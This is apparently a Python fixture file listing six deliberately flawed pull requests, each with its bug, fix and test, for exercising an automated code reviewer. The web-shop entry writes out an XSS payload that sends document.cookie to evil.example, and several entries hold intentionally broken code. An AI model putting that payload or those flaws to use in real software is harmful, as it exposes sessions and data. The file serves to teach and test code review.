"""Code changes that the code reviewer of the sample store is asked about."""

from dataclasses import dataclass

__all__ = ["CHANGES", "Change"]


@dataclass(frozen=True, slots=True)
class Change:
    """One pull request: what it claims, what is wrong with it, and the better line."""

    repo: str
    number: int
    title: str
    path: str
    language: str
    bad: str
    good: str
    finding: str
    test: str
    suite: str
    source: str

    def diff(self) -> str:
        """Return the change as ``git diff`` prints it."""
        lines = self.source.splitlines()
        body = "\n".join(f"+{line}" for line in lines)
        return (
            f"diff --git a/{self.path} b/{self.path}\n"
            "index 3f2a9c1..8be07d4 100644\n"
            f"--- a/{self.path}\n+++ b/{self.path}\n"
            f"@@ -12,4 +12,{len(lines) + 4} @@\n{body}\n"
        )


CHANGES = (
    Change(
        repo="checkout-api",
        number=482,
        title="Retry card payments on gateway time-outs",
        path="src/payments/retry.py",
        language="python",
        bad="    except TimeoutError:\n        return charge(card, amount)",
        good="    except TimeoutError:\n        return charge(card, amount, key=key)",
        finding="the retry sends no idempotency key, so a time-out **after** the bank accepted "
        "the first request charges the customer twice",
        test="tests/payments/test_retry.py::test_a_retry_never_charges_twice",
        suite="pytest -q tests/payments",
        source="def charge_with_retry(card, amount, key):\n    try:\n"
        "        return charge(card, amount, key=key)\n"
        "    except TimeoutError:\n        return charge(card, amount)\n",
    ),
    Change(
        repo="web-shop",
        number=1207,
        title="Show the customer's note on the order page",
        path="src/pages/order.tsx",
        language="tsx",
        bad="<p dangerouslySetInnerHTML={{ __html: order.note }} />",
        good='<p className="order-note">{order.note}</p>',
        finding="`order.note` is customer input and is put on the page as HTML: a note of "
        "`<script>fetch('https://evil.example/?c='+document.cookie)</script>` would run for "
        "every clerk who opens the order",
        test="src/pages/order.test.tsx > shows a note with markup as text",
        suite="npm test -- order",
        source="export function OrderNote({ order }: Props) {\n  return (\n    <section>\n"
        "      <h3>Note</h3>\n"
        "      <p dangerouslySetInnerHTML={{ __html: order.note }} />\n"
        "    </section>\n  );\n}\n",
    ),
    Change(
        repo="inventory-sync",
        number=96,
        title="Cache stock levels for 30 seconds",
        path="internal/stock/cache.go",
        language="go",
        bad="\tc.items[sku] = level",
        good="\tc.mu.Lock()\n\tc.items[sku] = level\n\tc.mu.Unlock()",
        finding="`Set` writes the map without the mutex that `Get` takes; two warehouse workers "
        "at once make the process panic with `concurrent map writes`",
        test="internal/stock: TestCacheIsSafeForConcurrentUse",
        suite="go test -race ./internal/stock",
        source="func (c *Cache) Set(sku string, level int) {\n\tc.items[sku] = level\n"
        "\tc.expiry[sku] = time.Now().Add(30 * time.Second)\n}\n",
    ),
    Change(
        repo="ledger-core",
        number=331,
        title="Page through postings with LIMIT and OFFSET",
        path="src/main/java/ledger/PostingDao.java",
        language="java",
        bad='"SELECT * FROM postings ORDER BY booked_at LIMIT " + size',
        good='"SELECT id, booked_at, cents FROM postings ORDER BY booked_at, id LIMIT ?"',
        finding="the order has no tie-break: postings of the same second move between pages, so "
        "an export can miss some and repeat others",
        test="PostingDaoTest.everyPostingIsOnExactlyOnePage",
        suite="./gradlew test --tests PostingDaoTest",
        source="public List<Posting> page(int number, int size) {\n"
        '    return jdbc.query("SELECT * FROM postings ORDER BY booked_at LIMIT " + size\n'
        '        + " OFFSET " + number * size, MAPPER);\n}\n',
    ),
    Change(
        repo="notify-worker",
        number=58,
        title="Send the weekly digest in the user's own time zone",
        path="notify/digest.py",
        language="python",
        bad="local = datetime.utcnow() + timedelta(hours=user.utc_offset)",
        good="local = datetime.now(ZoneInfo(user.time_zone))",
        finding="a fixed offset is wrong for half of the year: people in Berlin and New York get "
        "the digest an hour off after the clocks change",
        test="tests/test_digest.py::test_digest_time_survives_daylight_saving",
        suite="pytest -q tests/test_digest.py",
        source="def is_due(user):\n"
        "    local = datetime.utcnow() + timedelta(hours=user.utc_offset)\n"
        "    return local.weekday() == 0 and local.hour == 8\n",
    ),
    Change(
        repo="media-upload",
        number=214,
        title="Accept uploads of up to 2 GB",
        path="src/upload.rs",
        language="rust",
        bad="let mut body = Vec::with_capacity(len as usize);",
        good="let mut file = tokio::fs::File::create(&target).await?;",
        finding="the whole upload is kept in memory, with a size that the client names: three "
        "parallel 2 GB requests take the pod down",
        test="upload::tests::a_large_upload_is_streamed_to_disk",
        suite="cargo test upload",
        source="pub async fn receive(mut field: Field, len: u64) -> Result<PathBuf> {\n"
        "    let mut body = Vec::with_capacity(len as usize);\n"
        "    while let Some(chunk) = field.chunk().await? {\n"
        "        body.extend_from_slice(&chunk);\n    }\n    store(body).await\n}\n",
    ),
)
